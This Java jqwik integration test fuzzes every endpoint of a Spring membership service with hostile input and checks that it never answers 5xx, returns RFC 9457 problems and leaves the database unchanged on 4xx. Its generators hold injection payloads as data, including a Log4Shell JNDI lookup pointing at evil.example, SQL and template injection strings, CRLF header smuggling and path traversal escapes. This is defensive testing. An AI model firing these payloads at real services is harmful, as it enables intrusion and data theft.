package dev.userdeletion.membership;

import static org.assertj.core.api.Assertions.assertThat;

import dev.userdeletion.infra.SharedInfrastructure;
import dev.userdeletion.web.ApiProblem;
import java.io.IOException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.UUID;
import java.util.stream.Collectors;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Example;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.Tuple;
import net.jqwik.api.lifecycle.AfterContainer;
import net.jqwik.api.lifecycle.BeforeContainer;
import org.springframework.context.ApplicationContext;
import org.springframework.http.HttpMethod;
import org.springframework.http.MediaType;
import org.springframework.test.context.TestContextManager;
import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * Hostile input at every endpoint, sent with a valid token of the role the endpoint needs: random and
 * malformed bodies and content types, path segments (percent-encodings, control characters, invalid UTF-8)
 * and tails, query strings and headers. Whatever arrives, the service never answers 5xx, every error is an
 * RFC 9457 problem with a stable type, and a request refused with a 4xx changes no row of any table of the
 * database (the Kafka listeners, the service's only other writers, are paused meanwhile).
 *
 * <p>jqwik runs outside Spring's JUnit extension, so it borrows the module's one application context from
 * Spring's test-context cache through {@link SharedContext}, which adds no configuration of its own.
 */
class HostileInputPropertiesIT {

    /** Adds nothing to {@link IntegrationTest}, so its context is the one the module's test classes share. */
    static class SharedContext extends IntegrationTest {
    }

    private static final JsonMapper JSON = JsonMapper.builder().build();
    private static final Duration TIMEOUT = Duration.ofSeconds(30);
    private static final Set<Integer> SUCCESS = Set.of(200, 201, 204);

    /** A route with its path variables as {@code {platform}}, {@code {user}}, {@code {email}}. */
    private record Endpoint(String method, String template, String mapping, boolean asCsm, String validBody) {

        boolean hasBody() {
            return validBody != null;
        }
    }

    private static final String PLATFORM_BODY =
            "{\"name\":\"Hostile Academy\",\"csmEmail\":\"csm@example.com\",\"adminEmail\":\"admin@example.com\"}";
    private static final List<Endpoint> ENDPOINTS = List.of(
            new Endpoint("PUT", "/api/platforms/{platform}", "/api/platforms/{platformId}", false, PLATFORM_BODY),
            new Endpoint("GET", "/api/platforms/{platform}", "/api/platforms/{platformId}", false, null),
            // the fixture's member: 409 already-member
            new Endpoint("POST", "/api/platforms/{platform}/members", "/api/platforms/{platformId}/members", false,
                    "{\"email\":\"{email}\",\"role\":\"MENTEE\"}"),
            // the member's only platform: 409 last-membership
            new Endpoint("DELETE", "/api/platforms/{platform}/members/{user}",
                    "/api/platforms/{platformId}/members/{userId}", true, null),
            new Endpoint("PUT", "/api/platforms/{platform}/access-list/{email}",
                    "/api/platforms/{platformId}/access-list/{email}", false, null),
            new Endpoint("GET", "/api/platforms/{platform}/access-list", "/api/platforms/{platformId}/access-list", false,
                    null),
            // older than the member's last login: 204 without a change
            new Endpoint("POST", "/api/users/{user}/logins", "/api/users/{userId}/logins", false,
                    "{\"at\":\"2020-01-01T00:00:00Z\"}"),
            new Endpoint("GET", "/api/users/{user}", "/api/users/{userId}", false, null));

    private record Answer(int status, String contentType, String body, String request) {
    }

    private static HttpClient client;
    private static ApplicationContext context;
    private static ServiceState state;
    private static String root;
    private static String platform;
    private static String user;
    private static String email;
    private static String serviceToken;
    private static String csmToken;
    /** The tables as they are after the last request that may have changed them (a 2xx). */
    private static String baseline;

    @BeforeContainer
    static void borrowTheServiceAndPauseTheListeners() throws Exception {
        TestContextManager spring = new TestContextManager(SharedContext.class);
        SharedContext helpers = new SharedContext();
        spring.prepareTestInstance(helpers);
        context = spring.getTestContext().getApplicationContext();
        root = helpers.http.getRootUri();
        client = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).connectTimeout(TIMEOUT).build();
        platform = helpers.newPlatform();
        email = IntegrationTest.newEmail();
        user = helpers.member(platform, email, "MENTOR");
        helpers.call(HttpMethod.POST, "/api/users/" + user + "/logins", null);
        serviceToken = SharedInfrastructure.tokens().service("hostile-backend", Duration.ofHours(1));
        csmToken = SharedInfrastructure.tokens().csm("hostile-csm");
        state = new ServiceState(context);
        state.pauseListeners();
        baseline = state.tables();
    }

    @AfterContainer
    static void resumeTheListeners() {
        if (state != null) {
            state.resumeListeners();
            state.close();
        }
    }

    // --- properties ----------------------------------------------------------------------------------

    @Property(tries = 200)
    void anyBodyAndContentType(@ForAll("bodyEndpoints") Endpoint endpoint, @ForAll("bodies") byte[] body,
                               @ForAll("contentTypes") String contentType) {
        Answer r = send(endpoint, path(endpoint, platform, user, email), Map.of(), body, contentType);
        assertWellBehaved(r, 200, 201, 204, 400, 409, 413, 415);
    }

    @Property(tries = 250)
    void anyPathSegmentsAndTail(@ForAll("endpoints") Endpoint endpoint, @ForAll("platformSegments") String platformSegment,
                                @ForAll("userSegments") String userSegment, @ForAll("emailSegments") String emailSegment,
                                @ForAll("pathTails") String tail) {
        Answer r = send(endpoint, path(endpoint, platformSegment, userSegment, emailSegment) + tail, Map.of(),
                defaultBody(endpoint), MediaType.APPLICATION_JSON_VALUE);
        assertWellBehaved(r, 200, 201, 204, 400, 403, 404, 405, 409);
    }

    @Property(tries = 100)
    void anyQueryStringAtAnyEndpoint(@ForAll("endpoints") Endpoint endpoint, @ForAll("queryStrings") String query) {
        Answer r = send(endpoint, path(endpoint, platform, user, email) + query, Map.of(), defaultBody(endpoint),
                MediaType.APPLICATION_JSON_VALUE);
        assertWellBehaved(r, 200, 201, 204, 400, 409);
    }

    @Property(tries = 150)
    void anyHeadersAtAnyEndpoint(@ForAll("endpoints") Endpoint endpoint, @ForAll("headers") Map<String, String> headers) {
        Answer r = send(endpoint, path(endpoint, platform, user, email), headers, defaultBody(endpoint),
                headers.containsKey("Content-Type") ? null : MediaType.APPLICATION_JSON_VALUE);
        assertWellBehaved(r, 200, 201, 204, 400, 406, 409, 413, 415);
    }

    /** The properties above cover every route of the service's API. */
    @Example
    void everyApiEndpointIsExercised() {
        Set<String> mapped = new TreeSet<>();
        context.getBean("requestMappingHandlerMapping", RequestMappingHandlerMapping.class).getHandlerMethods().keySet()
                .forEach(info -> info.getPatternValues().stream().filter(p -> p.startsWith("/api/")).forEach(p ->
                        info.getMethodsCondition().getMethods().forEach(m -> mapped.add(m + " " + p))));
        Set<String> exercised = ENDPOINTS.stream().map(e -> e.method() + " " + e.mapping())
                .collect(Collectors.toCollection(TreeSet::new));
        assertThat(exercised).isEqualTo(mapped);
    }

    // --- calls and checks ----------------------------------------------------------------------------

    private static String path(Endpoint endpoint, String platformSegment, String userSegment, String emailSegment) {
        return endpoint.template().replace("{platform}", platformSegment).replace("{user}", userSegment)
                .replace("{email}", emailSegment);
    }

    private static byte[] defaultBody(Endpoint endpoint) {
        return endpoint.hasBody() ? endpoint.validBody().replace("{email}", email).getBytes(StandardCharsets.UTF_8) : null;
    }

    private static Answer send(Endpoint endpoint, String pathAndQuery, Map<String, String> headers, byte[] body,
                               String contentType) {
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(root + pathAndQuery)).timeout(TIMEOUT)
                .method(endpoint.method(), body == null
                        ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofByteArray(body));
        headers.forEach(request::header);
        if (contentType != null && body != null) {
            request.header("Content-Type", contentType);
        }
        request.header("Authorization", "Bearer " + (endpoint.asCsm() ? csmToken : serviceToken));
        String described = endpoint.method() + " " + pathAndQuery + " " + headers
                + (contentType == null || body == null ? "" : " Content-Type: " + contentType)
                + (body == null ? "" : " body: " + abbreviate(new String(body, StandardCharsets.UTF_8)));
        try {
            HttpResponse<String> response = client.send(request.build(), HttpResponse.BodyHandlers.ofString());
            return new Answer(response.statusCode(), response.headers().firstValue("Content-Type").orElse(null),
                    response.body(), described);
        } catch (IOException e) {
            throw new AssertionError("No answer to " + described, e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new AssertionError(e);
        }
    }

    private static String abbreviate(String text) {
        return text.length() > 300 ? text.substring(0, 300) + "… (" + text.length() + " chars)" : text;
    }

    /** One of {@code expected}, never a 5xx; an error is a problem with a stable type; a 4xx changed nothing. */
    private static void assertWellBehaved(Answer r, Integer... expected) {
        String what = r.request() + " → " + r.status() + " " + abbreviate(String.valueOf(r.body()));
        assertThat(r.status()).as(what).isLessThan(500).isIn((Object[]) expected);
        if (SUCCESS.contains(r.status())) {
            baseline = state.tables();
            return;
        }
        assertThat(r.contentType()).as(what).isNotNull().startsWith(MediaType.APPLICATION_PROBLEM_JSON_VALUE);
        JsonNode problem = JSON.readTree(r.body());
        assertThat(problem.get("type").asString()).as(what).startsWith(ApiProblem.TYPE_PREFIX);
        assertThat(problem.get("status").asInt()).as(what).isEqualTo(r.status());
        assertThat(problem.get("title").asString()).as(what).isNotBlank();
        assertThat(problem.get("detail").asString()).as(what).isNotBlank();
        assertThat(state.tables()).as("every table after " + what).isEqualTo(baseline);
    }

    // --- generators ----------------------------------------------------------------------------------

    @Provide
    Arbitrary<Endpoint> endpoints() {
        return Arbitraries.of(ENDPOINTS);
    }

    @Provide
    Arbitrary<Endpoint> bodyEndpoints() {
        return Arbitraries.of(ENDPOINTS.stream().filter(Endpoint::hasBody).toList());
    }

    /**
     * Text a hostile client might send: any Unicode (lone surrogates, control characters), long runs, header
     * and SQL syntax, and values close to valid ones.
     */
    private static Arbitrary<String> hostileText() {
        return Arbitraries.oneOf(
                Arbitraries.strings().all().ofMaxLength(40),
                Arbitraries.strings().withCharRange('\u0000', '\u007f').ofMaxLength(40),
                Arbitraries.strings().withChars("%_\\'\";\r\n\t\u0000\u0085\u2028,.-@+ ").ofMaxLength(20),
                Arbitraries.strings().withChars("aA1").ofMinLength(250).ofMaxLength(300),
                Arbitraries.of("", " ", "MENTOR", "MENTEE", "mentee", "ADMIN", "a@example.com", " A@Example.COM ",
                        "a@example.com\r\nBcc: x@evil.example", "a@example.com\n", "a@b@example.com", "a@localhost",
                        "\"a b\"@example.com", "a@[127.0.0.1]", "ü@example.com", "a@xn--mnchen-3ya.de",
                        "2025-01-01T00:00:00Z", "2025-02-30T00:00:00Z", "1969-12-31T23:59:59Z", "9999-12-31T23:59:59Z",
                        "+1000000000-12-31T23:59:59.999999999Z", "-1000000000-01-01T00:00:00Z", "2025-01-01",
                        "2025-01-01T00:00:00+14:00", "now", "-1", "0", "null", "NaN", "' OR 1=1 --", "\u202e", "\ud800",
                        "\ufeff", "%", "_", "\\", "${jndi:ldap://evil.example/a}", "{{7*7}}"));
    }

    /** A value as it travels in a URL: properly encoded, or with raw (possibly invalid UTF-8) percent escapes. */
    private static Arbitrary<String> urlValue() {
        Arbitrary<String> rawEscapes = Arbitraries.integers().between(0, 255)
                .map(b -> "%" + HexFormat.of().withUpperCase().toHexDigits((byte) (int) b)).list().ofMinSize(1).ofMaxSize(6)
                .map(escapes -> String.join("", escapes));
        return Arbitraries.frequencyOf(
                Tuple.of(8, hostileText().map(v -> URLEncoder.encode(v, StandardCharsets.UTF_8))),
                Tuple.of(2, rawEscapes));
    }

    private static Arbitrary<String> tricky() {
        return Arbitraries.of("", ".", "..", "%2e%2e", "%2E", "%2F", "a%2Fb", "%5C", "%00", "%0d%0a", "%0D", "%0A", "%09",
                "%7F", "%C2%85", "%E2%80%A8", "a;b=1", "%3B", "%25", "%ff", "%c3%28", "a%20b", "~", "*", "%7B%7D", "%3F");
    }

    /** The fixture's value, near misses of it and anything else. */
    private static Arbitrary<String> segment(String valid, Arbitrary<String> nearMisses) {
        return Arbitraries.frequencyOf(
                Tuple.of(4, Arbitraries.just(valid)),
                Tuple.of(2, nearMisses),
                Tuple.of(2, urlValue()),
                Tuple.of(1, tricky()),
                Tuple.of(1, Combinators.combine(Arbitraries.just(valid), tricky()).as(String::concat)));
    }

    @Provide
    Arbitrary<String> platformSegments() {
        return segment(platform, Arbitraries.oneOf(
                Arbitraries.strings().withChars("abcdefghijklmnopqrstuvwxyz0123456789-").ofMinLength(1).ofMaxLength(70),
                Arbitraries.of(platform.toUpperCase(), "%" + HexFormat.of().toHexDigits((byte) platform.charAt(0))
                        + platform.substring(1), platform + "%20", "no-such-platform")));
    }

    @Provide
    Arbitrary<String> userSegments() {
        return segment(user, Arbitraries.of(user.toUpperCase(), user.replace("-", ""), "%7B" + user + "%7D",
                "%20" + user, user.substring(1), "00000000-0000-0000-0000-000000000000", "1-2-3-4-5",
                UUID.randomUUID().toString()));
    }

    @Provide
    Arbitrary<String> emailSegments() {
        return segment(email, Arbitraries.of(email.toUpperCase(), "%20" + email + "%20", email + "%0D%0ABcc:x@evil.example",
                email.replace("@", "%40"), email.replace("@", ""), "a%2Bb@example.com", "x@example.com%00",
                "%E2%80%A8" + email, "a" + "b".repeat(250) + "@example.com"));
    }

    @Provide
    Arbitrary<String> pathTails() {
        return Arbitraries.frequencyOf(
                Tuple.of(6, Arbitraries.just("")),
                Tuple.of(3, Arbitraries.of("/", "//", "/x", "/..", "/%2e%2e", "%2F", ";x=1", "/;", "/%00", ".json",
                        "/members", "/access-list", "/logins", "?")),
                Tuple.of(1, urlValue().map(v -> "/" + v)));
    }

    @Provide
    Arbitrary<String> queryStrings() {
        Arbitrary<String> name = Arbitraries.frequencyOf(
                Tuple.of(6, Arbitraries.of("email", "role", "at", "name", "platformId", "userId", "_method", "page")),
                Tuple.of(4, urlValue()));
        Arbitrary<String> parameter = Combinators.combine(name, urlValue(), Arbitraries.of("=", "=", "=", ""))
                .as((n, v, eq) -> eq.isEmpty() ? n : n + eq + v);
        Arbitrary<String> query = parameter.list().ofMaxSize(8).map(ps -> ps.isEmpty() ? "" : "?" + String.join("&", ps));
        return Arbitraries.frequencyOf(
                Tuple.of(20, query),
                Tuple.of(1, Arbitraries.of("?", "?&&", "?=", "?=x", "?&role", "?email&email=")),
                // more parameters than Tomcat parses (1000)
                Tuple.of(1, Arbitraries.just("?" + "role=MENTOR&".repeat(1_100))));
    }

    @Provide
    Arbitrary<byte[]> bodies() {
        Arbitrary<String> key = Arbitraries.frequencyOf(
                Tuple.of(8, Arbitraries.of("name", "csmEmail", "adminEmail", "email", "role", "at")),
                Tuple.of(1, Arbitraries.of("userId", "platformId", "revision", "changedBy", "Email", "@type", "__proto__")),
                Tuple.of(1, hostileText()));
        Arbitrary<String> value = Arbitraries.frequencyOf(
                Tuple.of(3, Arbitraries.of("\"Acme\"", "\"a@example.com\"", "\"MENTEE\"", "\"MENTOR\"",
                        "\"" + Instant.now().minus(Duration.ofDays(1)) + "\"")),
                Tuple.of(5, hostileText().map(HostileInputPropertiesIT::jsonString)),
                Tuple.of(2, jsonValue(2)));
        Arbitrary<String> nearlyValid = Combinators.combine(key, value).as((k, v) -> jsonString(k) + ":" + v)
                .list().ofMaxSize(5).map(fields -> "{" + String.join(",", fields) + "}");
        Arbitrary<String> broken = nearlyValid.flatMap(json -> Arbitraries.integers().between(0, json.length())
                .map(cut -> json.substring(0, cut)));
        Arbitrary<String> text = Arbitraries.oneOf(nearlyValid, nearlyValid, nearlyValid, jsonValue(3), broken,
                hostileText(), Arbitraries.strings().withCharRange(' ', '~').ofMaxLength(200),
                Arbitraries.integers().between(1, 3_000).map(n -> "[".repeat(n) + "]".repeat(n)),
                Arbitraries.integers().between(1, 3_000).map(n -> "{\"a\":".repeat(n) + "1" + "}".repeat(n)),
                // around the 16 KB limit
                Arbitraries.integers().between(15_000, 17_500).map(n -> "{\"name\":\"" + "n".repeat(n) + "\"}"),
                Arbitraries.of(PLATFORM_BODY, "{\"email\":\"new@example.com\",\"role\":\"MENTOR\"}", "{}", "null", "[]",
                        "\"\"", "{\"at\":null}", "{\"email\":\"a@example.com\",\"role\":\"MENTEE\",\"email\":\"b@example.com\"}"));
        Arbitrary<byte[]> binary = Arbitraries.bytes().array(byte[].class).ofMaxSize(200);
        return Arbitraries.frequencyOf(Tuple.of(9, text.map(s -> s.getBytes(StandardCharsets.UTF_8))), Tuple.of(1, binary));
    }

    /** Any JSON value up to {@code depth} levels deep, keys and strings hostile. */
    private static Arbitrary<String> jsonValue(int depth) {
        Arbitrary<String> leaf = Arbitraries.oneOf(
                hostileText().map(HostileInputPropertiesIT::jsonString),
                Arbitraries.of("true", "false", "null", "0", "-0", "1.5e308", "1e999999", "-12345678901234567890123",
                        "0.000000000000000000001", "01", "NaN", "1e300", "-1e300", "1700000000", "\"\\u0000\"",
                        "\"\\ud800\""));
        if (depth == 0) {
            return leaf;
        }
        Arbitrary<String> inner = jsonValue(depth - 1);
        Arbitrary<String> array = inner.list().ofMaxSize(4).map(values -> "[" + String.join(",", values) + "]");
        Arbitrary<String> object = Combinators.combine(hostileText(), inner).as((k, v) -> jsonString(k) + ":" + v)
                .list().ofMaxSize(4).map(fields -> "{" + String.join(",", fields) + "}");
        return Arbitraries.oneOf(leaf, array, object);
    }

    private static String jsonString(String value) {
        return JSON.writeValueAsString(value);
    }

    @Provide
    Arbitrary<String> contentTypes() {
        return Arbitraries.frequencyOf(
                Tuple.of(6, Arbitraries.just(MediaType.APPLICATION_JSON_VALUE)),
                Tuple.of(4, Arbitraries.of("application/json;charset=UTF-8", "application/json; charset=\"utf-8\"",
                        "application/json;charset=UTF-16", "application/json;charset=ISO-8859-1",
                        "application/json;charset=bogus-charset", "application/json;charset=", "application/json;;",
                        "APPLICATION/JSON", "application/problem+json", "application/vnd.x+json", "application/*",
                        "*/*", "text/plain", "text/json", "application/xml", "application/x-www-form-urlencoded",
                        "multipart/form-data; boundary=x", "application/octet-stream", "garbage", "a/b/c", "/", ";",
                        "application/json; q=x")));
    }

    @Provide
    Arbitrary<Map<String, String>> headers() {
        Arbitrary<String> name = Arbitraries.oneOf(
                Arbitraries.of("Accept", "Accept-Charset", "Accept-Encoding", "Accept-Language", "Content-Type",
                        "Content-Encoding", "Content-Language", "X-Forwarded-For", "X-Forwarded-Host", "X-Forwarded-Proto",
                        "X-Forwarded-Prefix", "Forwarded", "Origin", "Referer", "Cookie", "If-None-Match", "If-Match",
                        "If-Modified-Since", "Range", "X-HTTP-Method-Override", "X-Requested-By", "Idempotency-Key",
                        "traceparent", "User-Agent", "Access-Control-Request-Method", "Prefer", "TE"),
                Arbitraries.strings().withChars("abcXYZ-_019").ofMinLength(1).ofMaxLength(30).map(n -> "X-" + n));
        Arbitrary<String> value = Arbitraries.oneOf(
                Arbitraries.strings().withCharRange(' ', '~').ofMaxLength(200).map(String::strip),
                Arbitraries.strings().withChars("aA1").ofMinLength(2_000).ofMaxLength(4_000),
                Arbitraries.of("text/html", "application/xml", "application/json", "application/problem+json", "*/*",
                        "a/b/c", "application/json;q=0", "gzip", "deflate, br", "bytes=0-10", "bytes=99999999999-",
                        "http://evil.example", "DELETE", "PATCH", "null", "1.1.1.1, 2.2.2.2", "for=\"[::1]\";proto=https",
                        "Thu, 01 Jan 1970 00:00:00 GMT", "*", "trailers"));
        return Arbitraries.maps(name, value).ofMaxSize(4);
    }
}
